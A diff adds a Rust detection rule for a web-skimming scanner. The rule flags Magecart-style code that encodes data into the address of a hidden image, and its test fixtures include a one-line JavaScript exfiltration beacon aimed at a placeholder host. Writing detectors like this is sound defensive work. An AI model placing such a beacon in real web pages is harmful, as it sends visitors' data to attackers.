@@ -1,0 +1,18 @@
+//! `data-in-image-address`.
+
+use crate::signals::{Atom, Signal, one};
+use crate::{ClassSet, Severity};
+
+pub(super) const SIGNAL: Signal = Signal {
+    id: "data-in-image-address",
+    description: "Encoded data leaves in the address of an image that is never shown.",
+    severity: Severity::Medium,
+    classes: ClassSet::MAGECART,
+    needs: &[one(&[Atom::Image]), one(&[Atom::Base64Encode, Atom::Encrypt]), one(&[Atom::AddressFromData])],
+    within: 80,
+    #[cfg(test)]
+    cases: crate::signals::Cases {
+        with: &["var i=new Image;i.src='//c.example/p.gif?'+btoa(s)"],
+        without: &["var i=new Image;i.src='//c.example/p.gif?u='+u"],
+    },
+};
